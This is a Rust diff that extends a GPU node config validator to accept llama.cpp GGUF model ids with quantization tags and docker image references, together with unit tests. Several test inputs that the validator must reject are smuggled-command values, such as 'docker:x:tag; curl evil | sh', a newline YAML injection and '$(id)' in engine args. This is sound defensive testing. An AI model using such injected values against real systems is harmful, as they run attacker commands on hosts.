@@ -26,7 +26,8 @@ pub struct NodeConfig {
     /// A GPU name, optionally with a count: `A100`, `A100:2`.
     #[serde(default)]
     pub gpu: String,
-    /// A Hugging Face model id, `org/name`.
+    /// A Hugging Face model id, `org/name`. For `llamacpp` a GGUF repository, optionally with
+    /// its quantization: `org/name:Q4_K_M` (what `llama-server -hf` takes).
     #[serde(default)]
     pub model: String,
     /// Spot capacity; defaults to true where the provider has spot.
@@ -38,7 +39,8 @@ pub struct NodeConfig {
     /// The inference server: `vllm` (default) or `llamacpp`.
     #[serde(default)]
     pub engine: Option<skydeck_contract::Engine>,
-    /// A container image for the engine (`docker:…`), so the node skips installing it.
+    /// A container image for the engine (`docker:repo[:tag][@sha256:…]`, see [`IMAGE`]), so
+    /// the node skips installing it.
     #[serde(default)]
     pub image: Option<String>,
     /// Extra engine flags, from the engine's allow-list (`vllm_args` in seed 003).
@@ -59,7 +61,7 @@ pub struct NodeSpec {
     pub gpu: String,
     /// GPUs per node.
     pub gpu_count: u32,
-    /// The Hugging Face model id.
+    /// The Hugging Face model id (for llama.cpp, `org/name[:quant]`).
     pub model: String,
     /// Spot capacity.
     pub use_spot: bool,
@@ -101,6 +103,19 @@ pub const DEFAULT_DISK: u32 = 256;
 static MODEL_PART: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"^[A-Za-z0-9](?:[A-Za-z0-9._-]{0,94}[A-Za-z0-9_])?$").expect("regex")
 });
+/// A llama.cpp model's quantization tag after `org/name:` (`Q4_K_M`, `IQ2_XS`, `F16`); like
+/// the repository's parts it may not hold `--` or `..`.
+static QUANT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^[A-Za-z0-9][A-Za-z0-9_.-]{0,31}$").expect("regex"));
+
+/// What `image` may be: SkyPilot's `docker:` prefix, then a repository path of lower-case
+/// letters, digits and `._/-` (a registry host without a port may lead it:
+/// `ghcr.io/ggml-org/llama.cpp`), an optional tag, an optional digest. Nothing in it reaches a
+/// script (it goes to `resources.image_id` as a YAML value); the shape only keeps SkyPilot from
+/// being handed something it would misread, such as a registry port that looks like a tag.
+pub const IMAGE: &str = r"^docker:[a-z0-9][a-z0-9._/-]{0,254}(:[A-Za-z0-9_][A-Za-z0-9._-]{0,127})?(@sha256:[0-9a-f]{64})?$";
+static IMAGE_RE: LazyLock<Regex> = LazyLock::new(|| Regex::new(IMAGE).expect("regex"));
+
 /// A kubeconfig context name: what `kubectl` and cloud tools generate
 /// (`gke_project_zone_cluster`, `arn:aws:eks:…:cluster/name`, `user@cluster`).
 static CONTEXT: LazyLock<Regex> =
@@ -216,20 +231,54 @@ impl NodeConfig {
                 ),
             ));
         }
+        let engine = self.engine.unwrap_or_default();
         let model = self.model.as_str();
-        let model_ok = model.len() <= 193
-            && model
+        // llama-server fetches a GGUF repository by `-hf org/name[:quant]`; vLLM takes the
+        // repository alone.
+        let (repo, quant) = match (engine, model.split_once(':')) {
+            (skydeck_contract::Engine::Llamacpp, Some((repo, quant))) => (repo, Some(quant)),
+            _ => (model, None),
+        };
+        let model_ok = repo.len() <= 193
+            && repo
                 .split_once('/')
-                .is_some_and(|(org, name)| part_ok(org) && part_ok(name));
+                .is_some_and(|(org, name)| part_ok(org) && part_ok(name))
+            && quant.is_none_or(|q| QUANT.is_match(q) && !q.contains("..") && !q.contains("--"));
         if !model_ok {
+            let expected = match engine {
+                skydeck_contract::Engine::Vllm => {
+                    "a Hugging Face model id (org/name: letters, digits, - _ .)"
+                }
+                skydeck_contract::Engine::Llamacpp => {
+                    "a Hugging Face GGUF repository (org/name, optionally :QUANT such as :Q4_K_M; letters, digits, - _ .)"
+                }
+            };
             return Err(invalid(
                 "model",
-                format!(
-                    "{} is not a Hugging Face model id (org/name: letters, digits, - _ .)",
-                    vllm_args::printable(model)
-                ),
+                format!("{} is not {expected}", vllm_args::printable(model)),
             ));
         }
+        let image = match self.image.as_deref() {
+            None => None,
+            Some(_) if !runs_images(provider) => {
+                return Err(invalid(
+                    "image",
+                    format!("SkyPilot runs no container images on {provider}; omit image"),
+                ));
+            }
+            Some(i) if IMAGE_RE.is_match(i) && !i.contains("..") && !i.contains("//") => {
+                Some(i.to_string())
+            }
+            Some(i) => {
+                return Err(invalid(
+                    "image",
+                    format!(
+                        "{} is not docker:repository[:tag][@sha256:digest] (lower-case letters, digits and ._/- in the repository; no registry port)",
+                        vllm_args::printable(i)
+                    ),
+                ));
+            }
+        };
         let use_spot = match self.use_spot {
             None => offering.spot,
             Some(true) if !offering.spot => {
@@ -256,7 +305,9 @@ impl NodeConfig {
         };
         let engine_args = match self.engine_args.as_deref() {
             None => Vec::new(),
-            Some(text) => vllm_args::parse(text).map_err(|rule| invalid("engine_args", rule))?,
+            Some(text) => {
+                vllm_args::parse_for(engine, text).map_err(|rule| invalid("engine_args", rule))?
+            }
         };
         Ok(NodeSpec {
             node_id,
@@ -267,11 +318,17 @@ impl NodeConfig {
             model: model.to_string(),
             use_spot,
             disk_size,
-            engine: self.engine.unwrap_or_default(),
-            image: self.image.clone(),
+            engine,
+            image,
             engine_args,
         })
     }
+}
+
+/// Whether SkyPilot can run the engine in a container image (`image_id: docker:…`) on
+/// `provider`: not on OCI, where its launch refuses docker images.
+pub fn runs_images(provider: Provider) -> bool {
+    provider != Provider::Oci
 }
 
 fn part_ok(part: &str) -> bool {
@@ -417,6 +474,112 @@ mod tests {
             let err = cfg.validate(&Rules::default()).unwrap_err();
             assert_eq!(err.field, field, "{err}");
         }
+    }
+
+    fn llamacpp() -> NodeConfig {
+        NodeConfig {
+            engine: Some(skydeck_contract::Engine::Llamacpp),
+            model: "Qwen/Qwen2.5-7B-Instruct-GGUF:Q4_K_M".into(),
+            engine_args: Some("--ctx-size 8192 --n-gpu-layers 99".into()),
+            ..seed_basic()
+        }
+    }
+
+    #[test]
+    fn llamacpp_models_and_args() {
+        let spec = llamacpp().validate(&Rules::default()).unwrap();
+        assert_eq!(spec.engine, skydeck_contract::Engine::Llamacpp);
+        assert_eq!(spec.model, "Qwen/Qwen2.5-7B-Instruct-GGUF:Q4_K_M");
+        assert_eq!(
+            spec.engine_args,
+            ["--ctx-size", "8192", "--n-gpu-layers", "99"]
+        );
+        let plain = NodeConfig {
+            model: "Qwen/Qwen2.5-7B-Instruct-GGUF".into(),
+            ..llamacpp()
+        };
+        assert!(plain.validate(&Rules::default()).is_ok());
+        // The quantization suffix is llama.cpp's; vLLM takes no such thing.
+        let vllm = NodeConfig {
+            engine: None,
+            engine_args: None,
+            ..llamacpp()
+        };
+        assert_eq!(vllm.validate(&Rules::default()).unwrap_err().field, "model");
+        for model in ["a/b:", "a/b:Q4;id", "a/b:x:y", "a/b:..", "a:Q4"] {
+            let cfg = NodeConfig {
+                model: model.into(),
+                ..llamacpp()
+            };
+            let err = cfg.validate(&Rules::default()).unwrap_err();
+            assert_eq!(err.field, "model", "{model}: {err}");
+            assert!(err.rule.contains("GGUF repository"), "{err}");
+        }
+        let cfg = NodeConfig {
+            engine_args: Some("--ctx-size 8192 --threads $(id)".into()),
+            ..llamacpp()
+        };
+        let err = cfg.validate(&Rules::default()).unwrap_err();
+        assert_eq!(err.field, "engine_args");
+        assert!(err.rule.contains("[3] --threads has value"), "{err}");
+        assert!(err.rule.contains("expects an integer"), "{err}");
+        // vLLM's flags are not llama.cpp's.
+        let cfg = NodeConfig {
+            engine_args: Some("--tensor-parallel-size 2".into()),
+            ..llamacpp()
+        };
+        assert_eq!(
+            cfg.validate(&Rules::default()).unwrap_err().field,
+            "engine_args"
+        );
+    }
+
+    #[test]
+    fn images() {
+        for ok in [
+            "docker:vllm/vllm-openai:v0.33.0",
+            "docker:ghcr.io/ggml-org/llama.cpp:server-cuda",
+            "docker:ubuntu",
+            &format!("docker:vllm/vllm-openai@sha256:{}", "a".repeat(64)),
+        ] {
+            let cfg = NodeConfig {
+                image: Some(ok.to_string()),
+                ..seed_basic()
+            };
+            assert_eq!(
+                cfg.validate(&Rules::default()).unwrap().image.as_deref(),
+                Some(ok)
+            );
+        }
+        for bad in [
+            "",
+            "vllm/vllm-openai",
+            "docker:",
+            "docker:Vllm/x",
+            "docker:registry:5000/x",
+            "docker:x:tag; curl evil | sh",
+            "docker:x\nrun: evil",
+            "docker:../x",
+            "docker:x@sha256:abc",
+        ] {
+            let cfg = NodeConfig {
+                image: Some(bad.to_string()),
+                ..seed_basic()
+            };
+            let err = cfg.validate(&Rules::default()).unwrap_err();
+            assert_eq!(err.field, "image", "{bad}");
+            assert!(err.rule.contains("docker:repository"), "{err}");
+        }
+        let oci = NodeConfig {
+            provider: "oci".into(),
+            region: "us-ashburn-1".into(),
+            gpu: "A100".into(),
+            use_spot: None,
+            image: Some("docker:vllm/vllm-openai:v0.33.0".into()),
+            ..seed_basic()
+        };
+        let err = oci.validate(&Rules::default()).unwrap_err();
+        assert_eq!(err.field, "image", "{err}");
     }
 
     #[test]
